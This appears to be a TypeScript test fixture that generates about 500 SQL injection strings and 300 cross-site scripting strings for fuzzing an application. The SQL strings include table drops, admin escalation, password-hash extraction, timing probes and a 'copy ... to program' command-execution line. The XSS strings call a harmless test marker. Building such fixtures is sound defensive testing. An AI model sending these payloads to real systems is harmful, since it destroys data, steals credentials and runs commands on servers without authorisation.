/** Texts that a program would run as SQL or as a script if it mixed them with its own. */

/** The ends of the text, number or name that the program put around the payload. */
const sqlEnds = ["'", '"', "')", "'))", "\\'", '%27', '\u2019', '$$', '1', "1'", "%'", "E'\\\\'", '`', "a'::text", '}']
const sqlStatements = [
  ...[" or '1'='1", ' or 1=1', ' and 1=1/(select 0)', ' and 1=cast(version() as int)', ' having count(*)>0'],
  ...[' union select null,version(),null', ' union all select email,password_hash from users', ' order by 99'],
  ...['; drop table users cascade', '; delete from orders', '; update users set is_admin=true', '; commit; begin'],
  ...['; select pg_sleep(20)', '||(select pg_sleep(20))', "; copy users to program 'id'", "; set role 'postgres'"],
  ...['; alter table products rename to x', ' returning *', '::regclass', ' limit 0 offset -1'],
]
const sqlRests = ['', '--', '-- -', '/*', ';', "'", '#', ' or "a"="a']

/** Five hundred texts: each statement with 25 of the ends and rests. */
export const sqlPayloads: readonly string[] = sqlStatements
  .flatMap((statement) => sqlEnds.flatMap((end) => sqlRests.map((rest) => end + statement + rest)))
  .filter((_, index) => (index % 24) % 5 === 0)

/** The ends of the element, attribute, comment or script around the payload. */
const htmlEnds = [
  ...['', '">', "'>", '</title>', '</script>', '</textarea>', '</style>', '-->', '</select>', '</noscript>'],
  ...[']]>', '<!--', '\\">', '</svg>', '&#34;>'],
]
/** They call `xss()`, which the test's browser counts. */
const scripts = [
  ...['<script>xss()</script>', '<ScRiPt>xss()</sCrIpT>', '<script >xss()</script >', '<svg onload=xss()>'],
  ...['<svg><script>xss()</script></svg>', '<svg><animate onbegin=xss() attributeName=x dur=1s>'],
  ...['<img src=x onerror=xss()>', '<img/src/onerror=xss()>', '<math><mtext></p><img src onerror=xss()>'],
  ...['<body onload=xss()>', '<details open ontoggle=xss()>', '<input autofocus onfocus=xss()>'],
  ...['<iframe srcdoc="<script>parent.xss()</script>">', '<iframe src="javascript:parent.xss()">'],
  ...['<video><source onerror=xss()></video>', '<audio src onerror=xss()>', '<marquee onstart=xss()>'],
  ...['<link rel=stylesheet href=x onerror=xss()>', '<style onload=xss()></style>', '\u0024{xss()}'],
  ...['<a href="javascript:xss()">x</a>', 'javascript:xss()//', '";xss();//', "';xss();//", '"-xss()-"'],
  ...['" autofocus onfocus=xss() x="', "' autofocus onfocus=xss() x='", '&lt;script&gt;xss()&lt;/script&gt;'],
  ...['%3Cscript%3Exss()%3C/script%3E', '\\u003cscript\\u003exss()\\u003c/script\\u003e'],
]

/** Three hundred texts, at most 100 characters long: each script with ten of the ends. */
export const xssPayloads: readonly string[] = scripts
  .flatMap((script) => htmlEnds.map((end) => end + script))
  .filter((_, index) => index % 3 < 2)
